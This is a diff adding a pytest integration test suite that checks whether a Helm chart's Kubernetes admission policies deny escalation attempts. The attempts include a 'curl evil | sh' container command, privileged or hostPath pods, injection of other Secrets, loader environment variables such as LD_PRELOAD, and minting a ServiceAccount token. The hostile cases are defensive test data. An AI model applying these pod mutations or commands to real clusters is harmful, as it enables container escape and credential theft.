@@ -1,0 +1,271 @@
+"""The chart's ValidatingAdmissionPolicies (issue 18, item 6) in the real kube-apiserver's own
+admission: the chart is installed with helm, and requests are made as a tenant (impersonated
+users bound to llmtrain-edit or to the built-in edit role), as the operator's ServiceAccount and
+as the training-operator's, and must be denied or allowed by the API server itself.
+
+Before these policies existed, every "denied" case below was admitted."""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import time
+import uuid
+
+import pytest
+import yaml
+from llmtrain.render import render_pytorchjob, render_rendezvous_secret
+from llmtrain.rendezvous_auth import CertificateAuthority
+from llmtrain.validation import parse_spec
+
+pytestmark = [pytest.mark.infra, pytest.mark.cluster]
+
+RELEASE = "llmtrain"
+TRAINING_OPERATOR = "system:serviceaccount:kubeflow:training-operator"  # the chart's default
+JOB = {"model": {"preset": "tiny"}, "data": {"seqLen": 64},
+       "cluster": {"instanceType": "cpu", "nodes": 1, "processesPerNode": 1, "image": "public.ecr.aws/llmtrain/t:1"},
+       "training": {"maxSteps": 2, "globalBatchTokens": 128, "microBatchSize": 2},
+       "rendezvous": {"backend": "c10d"}, "suspend": True}
+
+
+def _new_namespace(cluster, labels: dict | None = None) -> str:
+    name = f"vap-{uuid.uuid4().hex[:8]}"
+    cluster.kubectl("create", "namespace", name)
+    if labels:
+        cluster.kubectl("label", "namespace", name, *[f"{k}={v}" for k, v in labels.items()], "--overwrite")
+    deadline = time.monotonic() + 60  # pods need the namespace's default ServiceAccount
+    while cluster.kubectl("get", "serviceaccount", "default", "-n", name, check=False).returncode != 0:
+        assert time.monotonic() < deadline, "no default ServiceAccount"
+        time.sleep(0.2)
+    return name
+
+
+@pytest.fixture(scope="module")
+def setup(helm, dev_cluster):
+    """The release (bundled etcd on, so the operator may create Secrets), a tenant namespace with
+    a Secret, a ServiceAccount and a claim, alice (llmtrain-edit only) and bob (edit)."""
+    c = dev_cluster
+    release_ns = f"llmtrain-system-vap-{os.getpid()}"
+    c.kubectl("create", "namespace", release_ns)
+    ns = _new_namespace(c)
+    made = [release_ns, ns]
+    try:
+        helm.run("install", RELEASE, helm.operator_chart, "--namespace", release_ns, "--set", "etcd.enabled=true",
+                 kubeconfig=c.kubeconfig)
+        docs = [
+            {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "hf", "namespace": ns},
+             "stringData": {"token": "x"}},
+            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "trainer", "namespace": ns}},
+            {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "data", "namespace": ns},
+             "spec": {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": "1Gi"}}}},
+            _binding(ns, "alice", "llmtrain-edit"), _binding(ns, "bob", "edit"), _binding(ns, "bob", "llmtrain-edit"),
+        ]
+        c.kubectl("apply", "-f", "-", input=yaml.safe_dump_all(docs))
+        # Readiness of the policies: the API server picks them up asynchronously.
+        deadline = time.monotonic() + 60
+        while _create(c, _job("probe", model={"preset": "tiny", "hfTokenSecretRef": {"name": "hf", "key": "token"}}),
+                      ns, as_user="alice").returncode == 0:
+            c.kubectl("delete", "llmtj", "probe", "-n", ns, check=False)
+            assert time.monotonic() < deadline, "the admission policies never took effect"
+            time.sleep(0.5)
+        sa = json.loads(c.kubectl("get", "deployment", "-n", release_ns, "-o", "json").stdout)["items"][0]
+        operator = f"system:serviceaccount:{release_ns}:{sa['spec']['template']['spec']['serviceAccountName']}"
+        yield {"ns": ns, "release_ns": release_ns, "operator": operator, "made": made}
+    finally:
+        helm.run("uninstall", RELEASE, "--namespace", release_ns, kubeconfig=c.kubeconfig, check=False)
+        for n in made:
+            c.kubectl("delete", "namespace", n, "--wait=false", check=False)
+
+
+def _binding(ns: str, user: str, role: str) -> dict:
+    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+            "metadata": {"name": f"{user}-{role}", "namespace": ns},
+            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
+            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]}
+
+
+def _job(name: str, **over) -> dict:
+    spec = copy.deepcopy(JOB)
+    for k, v in over.items():
+        spec[k] = {**spec.get(k, {}), **v}
+    return {"apiVersion": "llmtrain.dev/v1alpha1", "kind": "LLMTrainingJob", "metadata": {"name": name}, "spec": spec}
+
+
+def _create(cluster, doc: dict, ns: str, as_user: str | None = None):
+    args = ["create", "-n", ns, "-f", "-"] + ([f"--as={as_user}"] if as_user else [])
+    return cluster.kubectl(*args, input=json.dumps(doc), check=False)
+
+
+def _denied(r, *words) -> bool:
+    text = r.stderr
+    return r.returncode != 0 and "denied request" in text and all(w in text for w in words)
+
+
+def test_a_job_may_name_only_what_its_author_may_use(setup, dev_cluster):
+    c, ns = dev_cluster, setup["ns"]
+    hf = {"preset": "tiny", "hfTokenSecretRef": {"name": "hf", "key": "token"}}
+    r = _create(c, _job("a1", model=hf), ns, "alice")
+    assert _denied(r, "spec.model.hfTokenSecretRef", "alice may not get Secret hf"), r.stderr
+    r = _create(c, _job("a2", cluster={"serviceAccountName": "trainer"}), ns, "alice")
+    assert _denied(r, "spec.cluster.serviceAccountName", "impersonate"), r.stderr
+    r = _create(c, _job("a3", cluster={"volumes": [{"name": "d", "claimName": "data", "mountPath": "/data"}]}), ns, "alice")
+    assert _denied(r, "spec.cluster.volumes[].claimName", "data"), r.stderr
+    # what alice may do, she still may
+    assert _create(c, _job("a4"), ns, "alice").returncode == 0
+    # bob holds edit: get on Secrets and PVCs, impersonate on ServiceAccounts
+    assert _create(c, _job("b1", model=hf, cluster={"serviceAccountName": "trainer", "volumes": [
+        {"name": "d", "claimName": "data", "mountPath": "/data"}]}), ns, "bob").returncode == 0
+    # an unchanged reference is not checked again on update (alice edits bob's job's mutable
+    # part; the references themselves are immutable in the CRD)
+    r = c.kubectl("patch", "llmtj", "b1", "-n", ns, "--type=merge", "-p", '{"spec":{"resilience":{"maxRestarts":3}}}',
+                  "--as=alice", check=False)
+    assert r.returncode == 0, r.stderr
+
+
+@pytest.mark.parametrize("var", ["LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "NCCL_NET_PLUGIN",
+                                 "NVIDIA_VISIBLE_DEVICES", "BASH_ENV"])
+def test_loader_variables_are_refused_for_everyone(setup, dev_cluster, var):
+    r = _create(dev_cluster, _job(f"env-{uuid.uuid4().hex[:6]}", cluster={"env": {var: "/x", "NCCL_DEBUG": "INFO"}}),
+                setup["ns"], "bob")
+    assert _denied(r, "spec.cluster.env", var), r.stderr
+
+
+def test_ordinary_env_is_fine(setup, dev_cluster):
+    r = _create(dev_cluster, _job("env-ok", cluster={"env": {"NCCL_DEBUG": "INFO", "PYTHONFAULTHANDLER": "1"}}),
+                setup["ns"], "bob")
+    assert r.returncode == 0, r.stderr
+
+
+def _owner(c, ns: str, name: str) -> str:
+    if c.kubectl("get", "llmtj", name, "-n", ns, check=False).returncode != 0:
+        _create(c, _job(name), ns, "bob")
+    return json.loads(c.kubectl("get", "llmtj", name, "-n", ns, "-o", "json").stdout)["metadata"]["uid"]
+
+
+def _rendered(c, ns: str, spec_over: dict | None = None, **kw) -> dict:
+    uid = _owner(c, ns, "owner")
+    raw = copy.deepcopy(JOB)
+    raw.pop("suspend")
+    for k, v in (spec_over or {}).items():
+        raw[k] = {**raw.get(k, {}), **v}
+    return render_pytorchjob(parse_spec(raw), "owner", ns, kw.pop("attempt", 1), uid, "etcd.x.svc:2379", **kw)
+
+
+def _mutate(ptj: dict, fn) -> dict:
+    ptj = copy.deepcopy(ptj)
+    fn(ptj["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]["spec"], ptj)
+    return ptj
+
+
+EFA = {"cluster": {"instanceType": "p5.48xlarge", "nodes": 2, "image": "public.ecr.aws/llmtrain/t:1"},
+       "model": {"preset": "tiny", "hfTokenSecretRef": {"name": "hf", "key": "token"}},
+       "rendezvous": {"backend": "etcd-v2"}}
+
+
+def test_the_operator_may_create_what_it_renders(setup, dev_cluster):
+    c, ns, op = dev_cluster, setup["ns"], setup["operator"]
+    for i, (over, kw) in enumerate([({}, {}), (EFA, {"rendezvous_credentials": True})]):
+        r = _create(c, _rendered(c, ns, over, attempt=i + 1, **kw), ns, op)
+        assert r.returncode == 0, r.stderr
+    creds = CertificateAuthority.generate().issue("llmtrain-ns-x")
+    uid = _owner(c, ns, "owner")
+    r = _create(c, render_rendezvous_secret("owner", ns, 2, uid, creds), ns, op)
+    assert r.returncode == 0, r.stderr
+
+
+BAD = {
+    "a hostPath volume": lambda p, _: p["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
+    "a privileged container": lambda p, _: p["containers"][0]["securityContext"].update(privileged=True),
+    "SYS_ADMIN": lambda p, _: p["containers"][0]["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
+    "another command": lambda p, _: p["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
+    "a second container": lambda p, _: p["containers"].append({"name": "side", "image": "busybox"}),
+    "hostNetwork": lambda p, _: p.update(hostNetwork=True),
+    "a ServiceAccount token": lambda p, _: p.update(automountServiceAccountToken=True),
+    "another Secret in env": lambda p, _: p["containers"][0]["env"].append(
+        {"name": "AWS_SECRET_ACCESS_KEY", "valueFrom": {"secretKeyRef": {"name": "aws", "key": "k"}}}),
+    "another Secret as a volume": lambda p, _: p["volumes"].append({"name": "s", "secret": {"secretName": "aws"}}),
+    "no owner": lambda _, ptj: ptj["metadata"].pop("ownerReferences"),
+    "an image elsewhere": lambda p, _: p["containers"][0].update(image="evil.example/x:1"),
+}
+
+
+@pytest.mark.parametrize("what", sorted(BAD))
+def test_the_operators_token_cannot_create_anything_else(setup, dev_cluster, what):
+    c, ns = dev_cluster, setup["ns"]
+    ptj = _mutate(_rendered(c, ns, attempt=7), BAD[what])
+    ptj["metadata"]["name"] = f"owner-a{uuid.uuid4().int % 10**6}"
+    r = _create(c, ptj, ns, setup["operator"])
+    if what == "an image elsewhere":  # only with admission.allowedImageRegistries (unset here)
+        assert r.returncode == 0, r.stderr
+        return
+    assert _denied(r), f"{what}: {r.stderr or 'admitted'}"
+
+
+def test_the_operators_token_creates_no_other_secrets(setup, dev_cluster):
+    c, ns = dev_cluster, setup["ns"]
+    token = {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
+             "metadata": {"name": "steal", "namespace": ns, "annotations": {"kubernetes.io/service-account.name": "trainer"}}}
+    assert _denied(_create(c, token, ns, setup["operator"]), "belong to an LLMTrainingJob")
+
+
+def test_only_the_operator_creates_llmtrain_pytorchjobs(setup, dev_cluster):
+    """Not even a cluster admin by hand: such PyTorchJobs get the EFA Pod Security exception."""
+    c, ns = dev_cluster, setup["ns"]
+    ptj = _rendered(c, ns, attempt=9)
+    assert _denied(_create(c, ptj, ns), "only the llmtrain operator"), "admitted"
+
+
+def _efa_pod(c, ns: str, over=None) -> dict:
+    ptj = _rendered(c, ns, EFA, rendezvous_credentials=True)
+    tpl = copy.deepcopy(ptj["spec"]["pytorchReplicaSpecs"]["Worker"]["template"])
+    meta = {**tpl["metadata"], "name": f"owner-a1-worker-{uuid.uuid4().hex[:5]}", "ownerReferences": [
+        {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "name": "owner-a1", "uid": str(uuid.uuid4()),
+         "controller": True}]}
+    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": tpl["spec"]}
+    if over:
+        over(pod["spec"])
+    return pod
+
+
+def test_baseline_efa_namespaces_admit_exactly_the_efa_difference(setup, dev_cluster):
+    c = dev_cluster
+    efa_ns = _new_namespace(c, {"pod-security.kubernetes.io/enforce": "privileged",
+                                "llmtrain.dev/pod-security": "baseline-efa"})
+    baseline_ns = _new_namespace(c, {"pod-security.kubernetes.io/enforce": "baseline"})
+    setup["made"] += [efa_ns, baseline_ns]
+    for n in (efa_ns, baseline_ns):
+        c.kubectl("apply", "-f", "-", input=yaml.safe_dump_all([
+            _binding(n, TRAINING_OPERATOR, "edit"), _binding(n, "bob", "edit")]))
+    pod = _efa_pod(c, efa_ns)
+    caps = pod["spec"]["containers"][0]["securityContext"]["capabilities"]["add"]
+    assert caps == ["IPC_LOCK"]
+    # The training-operator's EFA worker: admitted in the baseline-efa namespace...
+    r = _create(c, pod, efa_ns, TRAINING_OPERATOR)
+    assert r.returncode == 0, r.stderr
+    # ...refused by Pod Security itself in a baseline one (why the policy exists)
+    r = _create(c, _efa_pod(c, efa_ns), baseline_ns, TRAINING_OPERATOR)
+    assert r.returncode != 0 and "violates PodSecurity" in r.stderr, r.stderr
+    # Anything beyond the difference is refused
+    for what, over in {
+        "SYS_ADMIN": lambda s: s["containers"][0]["securityContext"]["capabilities"].update(add=["IPC_LOCK", "SYS_ADMIN"]),
+        "privileged": lambda s: s["containers"][0]["securityContext"].update(privileged=True),
+        "hostPath": lambda s: s["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
+        "hostNetwork": lambda s: s.update(hostNetwork=True),
+        "hostPort": lambda s: s["containers"][0]["ports"][0].update(hostPort=9410),
+    }.items():
+        r = _create(c, _efa_pod(c, efa_ns, over), efa_ns, TRAINING_OPERATOR)
+        assert _denied(r, "baseline"), f"{what}: {r.stderr or 'admitted'}"
+    # IPC_LOCK is for llmtrain's EFA workers from the training-operator only: not for a tenant's pod
+    r = _create(c, _efa_pod(c, efa_ns), efa_ns, "bob")
+    assert _denied(r, "baseline"), r.stderr or "admitted"
+
+    def no_efa(s):
+        for part in ("requests", "limits"):
+            s["containers"][0]["resources"][part].pop("vpc.amazonaws.com/efa")
+    r = _create(c, _efa_pod(c, efa_ns, no_efa), efa_ns, TRAINING_OPERATOR)
+    assert _denied(r, "baseline"), r.stderr or "admitted"
+    # and a tenant's ordinary baseline pod is fine there
+    plain = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "plain"},
+             "spec": {"containers": [{"name": "c", "image": "busybox"}]}}
+    assert _create(c, plain, efa_ns, "bob").returncode == 0
